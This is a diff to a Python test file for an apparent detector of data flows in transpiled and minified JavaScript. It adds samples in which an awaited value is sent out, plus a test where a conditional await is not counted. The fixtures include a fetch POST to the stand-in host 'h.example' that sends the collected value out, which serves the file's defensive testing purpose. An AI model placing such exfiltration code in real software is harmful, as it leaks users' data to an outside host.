@@ -16,6 +16,10 @@ SEND = "fetch('https://h.example/',{method:'POST',body:X})"
         "function read(){return w(this,void 0,void 0,function(){return g(this,function(a){return [2,UA]})})}"
         "function go(){return w(this,void 0,void 0,function(){var v;return g(this,function(a){switch(a.label){"
         "case 0:return [4,read()];case 1:v=a.sent();SEND(v);return [2]}})})}go()",
+        # the same as minifiers write it
+        "function read(){return w(this,void 0,void 0,function(){return g(this,function(a){return o=1,[2,UA]})})}"
+        "function go(){return w(this,void 0,void 0,function(){var v;return g(this,function(a){switch(a.label){"
+        "case 0:return on?[4,read()]:[3,2];case 1:v=a.sent(),SEND(v),a.label=2;case 2:return[2]}})})}go()",
         # Babel's regenerator
         "function read(){return t(r.mark(function e(){return r.wrap(function(c){switch(c.prev=c.next){"
         "case 0:return c.abrupt('return',UA);case 1:return c.stop()}},e)}))()}"
@@ -34,6 +38,16 @@ def test_another_awaited_value_is_not_taken_for_it() -> None:
         "function go(){return w(this,void 0,void 0,function(){var v,u;return g(this,function(a){switch(a.label){"
         f"case 0:return [4,{UA}];case 1:u=a.sent();return [4,'plain'];case 2:v=a.sent();{SEND.replace('X', 'v')};"
         "return [2]}})})}go()"
+    )
+    assert sends(flows_of(source.encode())) == set()
+
+
+def test_another_value_awaited_on_a_condition_is_not_taken_for_it() -> None:
+    source = (
+        "function go(){return w(this,void 0,void 0,function(){var v,u;return g(this,function(a){switch(a.label){"
+        f"case 0:return[4,{UA}];case 1:return u=a.sent(),on?[4,'plain']:[3,3];"
+        f"case 2:v=a.sent(),{SEND.replace('X', 'v')};"
+        "case 3:return[2]}})})}go()"
     )
     assert sends(flows_of(source.encode())) == set()
 
